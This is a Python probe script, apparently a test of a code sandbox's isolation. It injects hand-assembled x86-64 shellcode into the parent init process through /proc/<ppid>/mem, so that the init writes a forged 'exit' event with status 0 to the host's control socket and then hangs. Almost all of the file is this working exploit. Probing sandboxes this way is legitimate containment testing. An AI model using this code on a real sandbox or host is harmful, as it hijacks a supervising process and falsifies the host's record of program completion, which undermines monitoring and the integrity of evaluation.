"""Probe: hijack the box's init (our parent) and make it report a fake exit to the host.

The init holds the control socket on which the host learns that the program ended.
If this program may write the init's memory (/proc/<ppid>/mem), it plants a few
instructions where the init's wait4() will return: write a forged
{"event": "exit"} on the control socket, then pause forever. Whatever happens, this
program then sleeps forever: the host's wall-time bound is the only thing that may
end the box, and it must.
"""

import os
import struct
import sys
import time
from pathlib import Path


def hijack_init():
    init = os.getppid()
    fds = {fd: os.readlink(f"/proc/{init}/fd/{fd}") for fd in os.listdir(f"/proc/{init}/fd")}
    ctrl = next(int(fd) for fd, target in fds.items() if target.startswith("socket:"))
    message = b'{"event":"exit","status":0,"maxrss_kb":0,"full":[]}'
    code = (
        b"\xbf" + struct.pack("<I", ctrl)          # mov edi, ctrl
        + b"\x48\x8d\x35" + struct.pack("<i", 21)  # lea rsi, [rip+21] (the message)
        + b"\xba" + struct.pack("<I", len(message))  # mov edx, len
        + b"\xb8\x01\x00\x00\x00"                  # mov eax, 1 (write)
        + b"\x0f\x05"                              # syscall
        + b"\xb8\x22\x00\x00\x00"                  # mov eax, 34 (pause)
        + b"\x0f\x05"                              # syscall
        + b"\xeb\xf7"                              # jmp to the pause
        + message
    )
    deadline = time.monotonic() + 0.5
    while True:  # the init blocks in wait4 (61) for us; its pc then points just after that syscall
        fields = Path(f"/proc/{init}/syscall").read_text().split()
        if fields[0] == "61" or time.monotonic() > deadline:
            break
        time.sleep(0.001)
    pc = int(fields[-1], 16)
    with open(f"/proc/{init}/mem", "r+b", buffering=0) as mem:
        mem.seek(pc)
        mem.write(code)
    print(f"planted {len(code)} bytes at {pc:#x} in pid {init}, control fd {ctrl}", flush=True)


try:
    hijack_init()
except Exception as exc:  # the box held: nothing to do but wait for the wall-time bound
    print(f"could not hijack the init: {exc!r}", file=sys.stderr, flush=True)
while True:
    time.sleep(3600)
